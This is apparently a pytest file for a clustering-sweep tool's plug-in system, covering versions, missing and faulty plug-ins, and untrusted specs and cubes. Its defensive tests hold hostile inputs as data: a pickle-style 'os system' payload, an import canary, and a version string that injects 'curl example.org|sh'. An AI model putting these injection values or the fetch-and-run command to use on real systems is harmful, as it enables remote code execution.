"""Plug-ins in sweeps: the example package, missing ones, faulty ones, and strangers' specs."""

import json
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from pipeline import PluginError, SweepSpec, register_clusterer, register_score
from storage import compare_cubes, create_cube, extend_cube, open_cube, read_ledger, read_provenance
from storage.errors import CubeError
from storage.query import best_exponents
from tests.example_plugin import SPEC, having, install, recorded_spec, write_spec
from tests.faults import ROOT, Program, scheduler_and_workers
from tests.workflows.commands import assert_refused, imwk, output_of
from tests.workflows.compute.certificates import dask_options, make_certificates
from workflows import submit
from workflows.errors import WorkersError

SERIALLY = """
import sys
from workflows import submit
print(submit(sys.argv[1], sys.argv[2], workers=0).done)
"""
DATA = {"synthetic": {"configs": ["1000x6-3"], "count": 1}}


@pytest.fixture(scope="module")
def package(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return install(tmp_path_factory.mktemp("site"))


@pytest.fixture(scope="module")
def serial(package: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a folder with a cube that a process with the package computed."""
    folder = tmp_path_factory.mktemp("serial")
    cube, spec = folder / "cube.zarr", write_spec(folder)
    run = [sys.executable, "-W", "error", "-c", SERIALLY, str(spec), str(cube)]
    done = subprocess.run(run, env=having(package), capture_output=True, text=True, check=False)
    assert (done.stdout, done.stderr) == ("2\n", "")
    return folder


def same(first: Path, second: Path) -> bool:
    found = compare_cubes(open_cube(first), open_cube(second))
    own = found.sel(variable=["k_medoids_ari", "rescaled_k_medoids_compactness", "imwk_ari"])
    return bool((own.cells > 0).all()) and int(found.differing.sum()) == 0


def test_a_cube_is_read_and_queried_without_its_plug_ins(serial: Path) -> None:
    cube = open_cube(serial / "cube.zarr")
    assert cube.k_medoids_ari.dims[3:] == ("restart",)
    assert cube.rescaled_k_medoids_compactness.dims[3:] == ("p1", "restart")
    assert set(cube.normalisation.values.tolist()) == {"rank", "range"}
    assert float(cube.imwk_compactness.min()) > 0
    rows = output_of("query", serial / "cube.zarr", "--variable", "rescaled_k_medoids_compactness")
    assert "rank" in rows
    assert "rescaled" in output_of("summary", serial / "cube.zarr")
    output_of("report", serial / "cube.zarr", "-o", serial / "report.html")
    assert output_of("status", serial / "cube.zarr", "--json")
    assert "2 tiles read, 0 damaged" in output_of("verify", serial / "cube.zarr")
    assert "imwk-example-plugin" in str(read_provenance(serial / "cube.zarr").sessions)


def test_lower_is_better_where_a_plug_in_says_so(serial: Path) -> None:
    cube = open_cube(serial / "cube.zarr")
    best = best_exponents(cube, "rescaled_kmeans_compactness").best
    assert bool((best == cube.rescaled_kmeans_compactness.mean("restart").min("p1")).all())


def test_a_cube_without_its_plug_in_is_not_computed(serial: Path, tmp_path: Path) -> None:
    install_it = "pip install imwk-example-plugin==1.0"
    assert_refused(imwk("choose", serial / "cube.zarr"), install_it)
    assert_refused(imwk("verify", serial / "cube.zarr", "--recompute", 1), install_it)
    missing = tmp_path / "missing.zarr"
    create_cube(missing, recorded_spec())
    words = "lacks the clusterer 'absent' of imwk-absent 2.1: pip install imwk-absent==2.1."
    assert_refused(imwk("retry", missing), words)
    with pytest.raises(PluginError, match=r"pip install imwk-absent==2\.1"):
        extend_cube(missing, recorded_spec(p1=[2, 3]))
    assert read_ledger(missing).counts.missing == 1
    assert open_cube(missing).p1.size == 1


@pytest.fixture
def choosable(package: Path, tmp_path: Path) -> Path:
    """Return a cube that keeps labels, of data and of a normalisation that need the package."""
    rings = '[datasets.plugin.two]\ngenerator = "rings"\ncount = 1\nparameters = {n = 60}\n'
    text = SPEC.replace("[datasets", f'keep = ["labels", "weights"]\n{rings}[datasets', 1)
    spec, cube = write_spec(tmp_path, text), tmp_path / "cube.zarr"
    run = [sys.executable, "-c", SERIALLY, str(spec), str(cube)]
    subprocess.run(run, env=having(package), check=True, capture_output=True)
    return cube


def test_what_needs_a_missing_plug_in_says_what_to_install(choosable: Path, tmp_path: Path) -> None:
    install_it = "pip install imwk-example-plugin==1.0"
    for command in (("choose",), ("choose", "--config", "two"), ("cluster",), ("score", "--add")):
        more = ("nmi",) if command[0] == "score" else ()
        assert_refused(imwk(command[0], choosable, *command[1:], *more), install_it)
    shown = " ".join(output_of("summary", choosable).split())
    assert "Mean adjusted Rand index, rank" in shown
    assert "What would be chosen without classes is not shown. This machine lacks the" in shown
    output_of("report", choosable, "-o", tmp_path / "report.html")
    assert "Choice without classes" not in (tmp_path / "report.html").read_text()


def test_local_workers_compute_the_same_bits(serial: Path, package: Path, tmp_path: Path) -> None:
    command = ("imwk", "submit", serial / "spec.toml", tmp_path / "cube.zarr", "--workers", "2")
    code, _, errors = Program(*command, environment=having(package)).end()
    assert code == 0, errors
    assert same(tmp_path / "cube.zarr", serial / "cube.zarr")


def test_another_version_of_a_plug_in_does_not_fit_a_cube(serial: Path, tmp_path: Path) -> None:
    site = install(tmp_path / "site")
    info = next(site.glob("*.dist-info"))
    newer = info.with_name(info.name.replace("1.0", "2.0"))
    info.rename(newer)
    text = (newer / "METADATA").read_text()
    (newer / "METADATA").write_text(text.replace("Version: 1.0", "Version: 2.0"))
    command = ("imwk", "submit", serial / "spec.toml", serial / "cube.zarr")
    code, _, errors = Program(*command, environment=having(site)).end()
    assert code == 2
    assert "k-medoids (imwk-example-plugin 1.0)" in errors
    assert "k-medoids (imwk-example-plugin 2.0)" in errors
    check = ("imwk", "verify", serial / "cube.zarr", "--recompute", "1")
    code, _, errors = Program(*check, environment=having(site)).end()
    assert (code, len(errors.splitlines())) == (2, 1)
    assert "not that of imwk-example-plugin 1.0: pip install imwk-example-plugin==1.0." in errors


@pytest.mark.slow
def test_workers_behind_tls_compute_the_same_bits(
    serial: Path, package: Path, tmp_path: Path
) -> None:
    files, cube = make_certificates(tmp_path / "tls"), tmp_path / "cube.zarr"
    tls = ("--tls-ca", files.ca, "--tls-cert", files.cert, "--tls-key", files.key)
    environment = having(package)
    with scheduler_and_workers(tmp_path, environment, *dask_options(files)) as (address, _):
        command = ("imwk", "submit", serial / "spec.toml", cube, "--scheduler", address, *tls)
        code, _, errors = Program(*map(str, command), environment=environment).end()
    assert code == 0, errors
    assert same(cube, serial / "cube.zarr")


@pytest.mark.slow
def test_a_worker_without_the_package_is_one_clear_line(
    serial: Path, package: Path, tmp_path: Path
) -> None:
    without = ({"PYTHONPATH": having(tmp_path)["PYTHONPATH"]},)
    environment = having(package)
    with scheduler_and_workers(tmp_path, environment, workers=without) as (address, _):
        command = ("submit", serial / "spec.toml", tmp_path / "cube.zarr", "--scheduler", address)
        code, output, errors = Program("imwk", *command, environment=environment).end()
    assert (code, output) == (4, "")
    (line,) = errors.splitlines()
    assert line.startswith("Error: Worker tcp://127.0.0.1:")
    assert line.endswith(
        "lacks the normalisation 'rank' of imwk-example-plugin 1.0: "
        "pip install imwk-example-plugin==1.0"
    )


def registered_spec(**keys: object) -> SweepSpec:
    given = {"datasets": DATA, "normalisations": ["range"], "parts": ["imwk"], "p1": [2]}
    return SweepSpec.model_validate({**given, "p2": [2], "clusterers": ["halves"], **keys})


@pytest.fixture
def halves() -> None:
    register_clusterer("halves", lambda X, *_: X[:, 0] > np.median(X[:, 0]), version="1")


@pytest.mark.usefixtures("halves")
def test_a_registered_clusterer_runs_in_its_own_process_only(tmp_path: Path) -> None:
    assert submit(registered_spec(), tmp_path / "serial.zarr", workers=0).done == 1
    with pytest.raises(WorkersError, match=r"registered in Python.* install a package that has it"):
        submit(registered_spec(), tmp_path / "local.zarr", workers=1)
    assert read_ledger(tmp_path / "local.zarr").counts.done == 0


@pytest.mark.usefixtures("halves")
def test_versions_and_facts_are_part_of_the_fingerprint() -> None:
    one = registered_spec()
    register_clusterer("halves", lambda X, *_: X[:, 0] > 0, version="2")
    two = registered_spec()
    register_clusterer("halves", lambda X, *_: X[:, 0] > 0, version="2", random=True)
    assert len({one.fingerprint, two.fingerprint, registered_spec().fingerprint}) == 3


@pytest.mark.parametrize(
    ("function", "words"),
    [
        (lambda *_: [1, 2], "returned labels of the shape (2,), not (1000,)"),
        (lambda *_: 1 / 0, "failed with ZeroDivisionError: division by zero (test_plugins.py"),
    ],
)
def test_a_clusterer_that_fails_marks_the_tile_as_failed(
    function: Callable[..., Any], words: str, tmp_path: Path
) -> None:
    register_clusterer("faulty", function, version="1")
    cube = tmp_path / "cube.zarr"
    report = submit(registered_spec(clusterers=["faulty"]), cube, workers=0)
    (error,) = report.failed.values()
    assert words in error
    assert "The clusterer 'faulty'" in error
    assert words.split(" (")[0] in " ".join(output_of("status", cube).split())


def test_a_score_that_is_undefined_has_its_worst_value(tmp_path: Path) -> None:
    register_score("unknown", lambda *_: np.nan, version="1", lowest=-3)
    spec = registered_spec(clusterers=["ward"], scores=["unknown"])
    assert submit(spec, tmp_path / "cube.zarr", workers=0).done == 1
    assert open_cube(tmp_path / "cube.zarr").rescaled_ward_unknown.values.tolist() == [[[[-3.0]]]]


CANARY = "import pathlib; pathlib.Path({!r}).write_text('ran')\ndef touch(*_): pass\n"
#: Texts that would run code if names were ever taken for more than names.
STRANGE = ["canary:touch", "canary.touch", "canary", "os:system", "cos\nsystem\n(S'touch x'\ntR."]


@pytest.fixture
def canary(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Make a module that leaves a file when it is imported; return the file."""
    file = tmp_path / "canary-ran"
    (tmp_path / "canary.py").write_text(CANARY.format(str(file)))
    monkeypatch.syspath_prepend(tmp_path)
    return file


@pytest.mark.parametrize("name", STRANGE)
@pytest.mark.parametrize("key", ["normalisations", "clusterers", "scores"])
def test_a_strangers_spec_runs_nothing(key: str, name: str, canary: Path, tmp_path: Path) -> None:
    data = '\n[datasets.synthetic]\nconfigs = ["1000x6-3"]\ncount = 1\n'
    facts = {"kind": key.removesuffix("s"), "name": name, "version": "1", "distribution": "canary"}
    records = "[[plugins]]\n" + "\n".join(f"{k} = {json.dumps(v)}" for k, v in facts.items())
    for text in (data, f"{records}{data}"):
        spec = tmp_path / "spec.toml"
        spec.write_text(f"{key} = [{json.dumps(name)}]\np1 = [2]\np2 = [2]\n{text}")
        assert_refused(imwk("submit", spec, tmp_path / "cube.zarr", "--workers", 1))
    assert not canary.exists()


@pytest.mark.parametrize("name", STRANGE)
def test_a_strangers_cube_runs_nothing(name: str, canary: Path, tmp_path: Path) -> None:
    cube = tmp_path / "cube.zarr"
    create_cube(cube, recorded_spec())
    document = cube / "zarr.json"
    root = json.loads(document.read_text())
    root["attributes"]["spec"]["plugins"][0] |= {"name": name, "distribution": "canary"}
    root["attributes"]["spec"]["clusterers"] = [name]
    document.write_text(json.dumps(root))
    for command in ("status", "retry", "verify", "summary", "query"):
        result = imwk(command, cube)
        assert "Traceback" not in result.output
        assert result.exit_code == 2 or (name == "canary" and command != "retry")
    if name != "canary":
        with pytest.raises(CubeError, match="cannot be the name of a clusterer"):
            open_cube(cube)
    assert not canary.exists()


@pytest.mark.parametrize(
    "change",
    [{"version": "1; curl example.org|sh"}, {"version": "1 -r x"}, {"distribution": "--pre"}],
)
def test_no_command_of_a_stranger_is_printed_to_be_pasted(
    change: dict[str, str], tmp_path: Path
) -> None:
    cube = tmp_path / "cube.zarr"
    create_cube(cube, recorded_spec())
    document = cube / "zarr.json"
    root = json.loads(document.read_text())
    root["attributes"]["spec"]["plugins"][0] |= change
    document.write_text(json.dumps(root))
    refused = imwk("retry", cube)
    assert_refused(refused)
    assert "pip install" not in refused.output


def test_only_plug_ins_that_a_spec_names_are_loaded(package: Path, tmp_path: Path) -> None:
    code = (
        "import sys; from pipeline.spec import read_spec; from pipeline.plugins.registry import "
        "installed_names; assert 'k-medoids' in installed_names('clusterer'); "
        "read_spec(sys.argv[1]); print('imwk_example_plugin' in sys.modules)"
    )
    answers = []
    for names in ('["ward"]', '["k-medoids"]'):
        data = '[datasets.synthetic]\nconfigs = ["1000x6-3"]\ncount = 1\n'
        spec = write_spec(tmp_path, f"clusterers = {names}\n{data}")
        run = [sys.executable, "-c", code, str(spec)]
        answers.append(subprocess.check_output(run, env=having(package), text=True).strip())
    assert answers == ["False", "True"]


def test_the_package_in_the_docs_is_complete(tmp_path: Path) -> None:
    page = (ROOT / "docs" / "plugins.md").read_text()
    project = next(
        each for each in re.findall("```toml\n(.*?)```", page, re.DOTALL) if "[p" in each
    )
    module = re.findall("```python\n(.*?)```", page, re.DOTALL)[0]
    source = tmp_path / "source"
    source.mkdir()
    (source / "pyproject.toml").write_text(project)
    (source / "imwk_nearest.py").write_text(module)
    keys = 'clusterers = ["nearest-start"]\nparts = []\nrestarts = 2\np1 = [2]\np2 = [2]\n'
    data = '[datasets.synthetic]\nconfigs = ["1000x6-3"]\ncount = 1\n'
    spec, cube = write_spec(tmp_path, keys + data), tmp_path / "cube.zarr"
    run = [sys.executable, "-c", SERIALLY, str(spec), str(cube)]
    subprocess.run(run, env=having(install(tmp_path / "site", source)), check=True)
    assert bool(open_cube(cube).rescaled_nearest_start_ari.notnull().all())


def test_data_of_a_generator_are_swept(package: Path, tmp_path: Path) -> None:
    data = '[datasets.plugin.two]\ngenerator = "rings"\ncount = 2\nparameters = {n = 60}\n'
    keys = 'normalisations = ["none"]\nparts = ["imwk"]\np1 = [2]\np2 = [2]\n'
    spec, cube = write_spec(tmp_path, keys + data), tmp_path / "cube.zarr"
    code, _, errors = Program("imwk", "submit", spec, cube, environment=having(package)).end()
    assert code == 0, errors
    opened = open_cube(cube)
    assert dict(opened.sizes)["dataset"] == 2
    assert bool(opened.imwk_ari.notnull().all())
    assert_refused(imwk("verify", cube, "--recompute", 1), "lacks the generator 'rings' of")
    assert_refused(imwk("submit", spec, cube), "no generator of this name is installed")
